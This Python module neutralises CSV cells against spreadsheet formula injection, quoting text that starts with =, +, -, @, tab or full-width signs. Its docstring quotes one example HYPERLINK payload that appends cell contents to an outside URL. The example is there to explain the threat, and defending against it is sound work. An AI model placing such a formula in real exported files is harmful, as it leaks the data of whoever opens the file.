"""Every CSV Comptoir writes goes through here, so no cell opens as a formula.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or with a tab or a carriage
return before one) as a formula: a buyer named `=HYPERLINK("http://…?"&A1,"click")` in a
webhook would run on the merchant's machine when the export is opened. OWASP's rule: such a
text cell gets a leading single quote, which the spreadsheet shows as plain text.

Text is neutralised whatever its origin; numbers we compute (Decimal, int) are written as
plain numbers and never touched, so a refund of -12.50 stays a number. The check looks past
leading spaces and reads full-width and small-form signs (`＝`, `﹢`…) as the ASCII ones,
since some spreadsheets take those as formulas too.
"""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

# OWASP's list; the tab and the carriage return also start a formula in some spreadsheets.
TRIGGERS = frozenset("=+-@\t\r")


def safe_cell(value: Any) -> str:
    """The cell's text as a spreadsheet will read it as data, never as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, Decimal):
        return f"{value:f}"  # plain notation: never "2E+1"
    text = str(value)
    return "'" + text if _starts_a_formula(text) else text


def _starts_a_formula(text: str) -> bool:
    if not text:
        return False
    if text[0] in TRIGGERS:
        return True
    # " =1+2", "\n=1+2", "＝1+2": what a lenient spreadsheet could still take as a formula.
    first = text.lstrip()[:1]
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in TRIGGERS


class SafeWriter:
    """A csv.writer whose rows go through `safe_cell`, cell by cell."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one row, each cell neutralised."""
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write the rows, each cell neutralised."""
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **options: Any) -> SafeWriter:
    """The one way to start a CSV file (options as for csv.writer)."""
    return SafeWriter(out, **options)
